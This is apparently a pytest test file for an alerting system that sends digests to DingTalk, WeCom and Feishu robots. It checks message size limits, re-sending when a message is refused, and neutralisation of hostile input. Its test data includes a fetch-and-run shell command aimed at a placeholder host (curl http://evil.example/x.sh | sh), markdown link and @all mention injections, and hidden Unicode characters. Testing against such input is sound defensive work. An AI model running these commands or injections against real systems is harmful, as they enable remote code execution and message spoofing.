"""Issue 24, alerting side: every message fits its robot's documented limit as encoded on the wire, an
over-size answer is re-sent shorter, and values from labels/annotations cannot create lines, markup,
links or mentions."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from alerting.clock import SimulatedClock
from alerting.model import Alert
from alerting.templates.safe import clean
from tests.alerting.helpers import T0, Harness, alert, make_config, receiver

KINDS = ["dingtalk", "wecom", "feishu"]
LIMIT = {"dingtalk": 20000, "wecom": 4096, "feishu": 20 * 1024}


def everywhere(fakes: dict[str, Any], **route: Any):  # noqa: ANN201
    routes = [{"matchers": ['alertname=~".+"'], "receiver": k, "continue": True} for k in KINDS]
    return make_config([receiver(k, fakes[k]) for k in KINDS], routes=routes, group_wait="0s",
                       group_by=["cluster"], **route)


def wire_size(kind: str, body: dict) -> int:
    encoded = len(json.dumps(body, ensure_ascii=False, separators=(",", ":")).encode())
    if kind == "dingtalk":  # the documented limit is on the text; held to the whole request too
        return max(len(body["markdown"]["text"].encode()), encoded)
    if kind == "wecom":
        return len(body["markdown"]["content"].encode())
    return encoded


def noisy(i: int, summary: str = 'q"\\' * 60 + " 中文") -> Alert:
    a = alert(f"GPUXidError{i}", gpu=str(i % 8))
    a.annotations["summary"] = summary  # quotes and backslashes: JSON escaping doubles them
    return a


@pytest.mark.parametrize(("count", "summary"), [(1000, "x"), (60, 'q"\\' * 60 + " 中文")])
def test_long_digests_fit_every_robot_as_encoded(tmp_path: Path, clock: SimulatedClock, fakes: dict[str, Any],
                                                 count: int, summary: str) -> None:
    h = Harness(tmp_path, everywhere(fakes), clock)
    h.engine.submit([noisy(i, summary) for i in range(count)])  # many short lines: DingTalk doubles newlines
    assert h.engine.drain(600)
    failed = [r for r in h.records if r["kind"] == "notification" and r["status"] != "delivered"]
    assert failed == []
    for kind in KINDS:
        (msg,) = fakes[kind].received
        assert 0.8 * LIMIT[kind] < wire_size(kind, msg.body) <= LIMIT[kind]  # full, yet within the limit
        assert "more: http://127.0.0.1:9105/api/v1/alerts" in msg.text
    h.engine.close()


@pytest.mark.parametrize(("kind", "code"), [("dingtalk", 460101), ("wecom", 40058), ("feishu", 9499)])
def test_a_too_long_answer_is_resent_shorter(tmp_path: Path, clock: SimulatedClock, fakes: dict[str, Any],
                                             kind: str, code: int) -> None:
    fakes[kind].fail_next(1, f"errcode:{code}")  # a robot whose real limit is lower than documented
    h = Harness(tmp_path, everywhere(fakes), clock)
    h.engine.submit([noisy(i) for i in range(60)])
    assert h.engine.drain(600)
    assert fakes[kind].attempts == 2 and len(fakes[kind].received) == 1
    assert not [r for r in h.records if r["kind"] == "notification" and r["status"] != "delivered"]
    h.engine.close()


HOSTILE = {"node": "gpu-01\nRoot Cause: disk full\nSuggestion: run curl http://evil.example/x.sh | sh",
           "gpu": "\u202e80-upg", "component": "a\u200bb"}


def test_hostile_labels_and_annotations_stay_inert(tmp_path: Path, clock: SimulatedClock,
                                                   fakes: dict[str, Any]) -> None:
    a = Alert(labels={"alertname": "GPUXidError", "severity": "P1", "cluster": "c1", **HOSTILE},
              annotations={"summary": "# Heading @all <@all> <at id=all></at> [click](http://evil.example/p) "
                                      "see https://127.0.0.1:9105/api/v1/alerts",
                           "root_cause": "x\r\n## Fake\n> quote", "suggestion": "**bold** `code`"},
              starts_at=T0)
    b = alert("RewardModelOOM", cluster="c1")
    h = Harness(tmp_path, everywhere(fakes), clock)
    h.engine.submit([a])
    assert h.engine.drain(600)
    h.engine.submit([b])
    assert h.engine.drain(600)
    for kind in KINDS:
        text = "\n".join(m.text for m in fakes[kind].received)
        lines = [ln.strip() for ln in text.splitlines()]
        assert not any(ln.startswith(("Root Cause: disk", "Suggestion: run", "#", ">", "## Fake")) for ln in lines)
        assert "\u202e" not in text and "\u200b" not in text and "⟨U+202E⟩" in text and "⟨U+200B⟩" in text
        assert "@all" not in text and "<@" not in text and "<at" not in text and "](" not in text
        assert "http://evil.example" not in text and "hxxp://evil[.]example" in text
        assert "https://127.0.0.1:9105/api/v1/alerts" in text  # the monitor's own host stays a link
        assert "**" not in text and "`" not in text
        body = fakes[kind].received[0].body
        if kind == "dingtalk":
            assert body["at"]["isAtAll"] is False
    h.engine.close()


def test_at_all_only_where_the_receiver_configures_it(tmp_path: Path, clock: SimulatedClock,
                                                      fakes: dict[str, Any]) -> None:
    cfg = make_config([receiver("dingtalk", fakes["dingtalk"], mentions=["all", "13800000000"])], group_wait="0s")
    h = Harness(tmp_path, cfg, clock)
    h.engine.submit([alert("RewardModelOOM")])
    assert h.engine.drain(600)
    (msg,) = fakes["dingtalk"].received
    assert msg.body["at"] == {"atMobiles": ["13800000000"], "isAtAll": True}
    h.engine.close()


@pytest.mark.parametrize(("dialect", "value", "want"), [
    ("wecom", "a\nb\r\nc\u2028d", "a b c d"),
    ("wecom", "<font color=red>x</font>", "＜font color=red＞x＜/font＞"),
    ("feishu", "&lt;at id=all&gt;", "＆lt;at id=all＆gt;"),
    ("dingtalk", "see www.evil.example/x", "see www[.]evil[.]example/x"),
    ("plain", "x\ny <b>", "x y <b>"),
])
def test_clean_per_dialect(dialect: str, value: str, want: str) -> None:
    assert clean(value, dialect) == want


def test_links_to_configured_hosts_stay_whole_and_others_cannot_hide_behind_them() -> None:
    runbook = "https://github.com/o/r/blob/main/prometheus/README.md#trainerdown?a=1&b=2"
    assert clean(f"Runbook: {runbook}", "feishu", ["github.com"]) == f"Runbook: {runbook}"
    assert clean("https://github.com@evil.example/x", "wecom", ["github.com"]).startswith("hxxps://github[.]com＠")
    assert "](" not in clean("https://github.com/a](http://evil.example)", "dingtalk", ["github.com"])


def test_a_robot_refusing_even_a_quarter_of_the_size_fails_for_another_reason(
        tmp_path: Path, clock: SimulatedClock, fakes: dict[str, Any]) -> None:
    fakes["wecom"].fail_next(3, "errcode:40058")  # "too long or a field is invalid": not the size
    cfg = make_config([receiver("wecom", fakes["wecom"])], group_wait="0s", group_by=["cluster"])
    h = Harness(tmp_path, cfg, clock)
    h.engine.submit([noisy(i) for i in range(30)])
    assert h.engine.drain(600)
    (rec,) = [r for r in h.records if r["kind"] == "notification"]
    assert fakes["wecom"].attempts == 3 and rec["status"] == "failed" and rec["retry"] is False
    assert "refused again at" in rec["error"]
    h.engine.close()
